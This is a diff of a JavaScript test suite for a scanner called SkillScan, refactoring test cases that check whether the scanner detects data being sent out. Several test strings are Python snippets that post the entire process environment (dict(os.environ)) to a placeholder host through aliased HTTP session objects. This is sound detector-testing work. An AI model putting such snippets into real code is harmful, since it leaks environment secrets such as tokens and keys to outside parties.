@@ -154,10 +154,11 @@ describe("SkillScan", () => {
     assert.isTrue(sends("    async with aiohttp.ClientSession() as s:\n        await s.post(host, json=dict(os.environ))"))
     assert.isTrue(sends("    first = second = requests.Session()\n    second.post(host, json=dict(os.environ))"))
     // a handle given another name, once or twice (DeerFlow's test_python_client_handle_binding_matches_runtime)
-    assert.isTrue(sends("    session = requests.Session()\n    s = session\n    s.post(host, json=dict(os.environ))"))
-    assert.isTrue(sends("    session = requests.Session()\n    s = session\n    t = s\n    t.post(host, json=dict(os.environ))"))
-    assert.isTrue(sends("    session = requests.Session()\n    session = session\n    session.post(host, json=dict(os.environ))"))
-    assert.isFalse(sends("    session = requests.Session()\n    s = session.headers\n    s.post(host, json=dict(os.environ))"))
+    const made = "    session = requests.Session()\n"
+    assert.isTrue(sends(`${made}    s = session\n    s.post(host, json=dict(os.environ))`))
+    assert.isTrue(sends(`${made}    s = session\n    t = s\n    t.post(host, json=dict(os.environ))`))
+    assert.isTrue(sends(`${made}    session = session\n    session.post(host, json=dict(os.environ))`))
+    assert.isFalse(sends(`${made}    s = session.headers\n    s.post(host, json=dict(os.environ))`))
     // methods the class has not, a context it does not support, a rebound name, a name never a client
     assert.isFalse(sends("    conn = http.client.HTTPConnection(host)\n    conn.getresponse()\n    x = dict(os.environ)"))
     assert.isFalse(sends("    async with requests.Session() as s:\n        s.post(host, json=dict(os.environ))"))
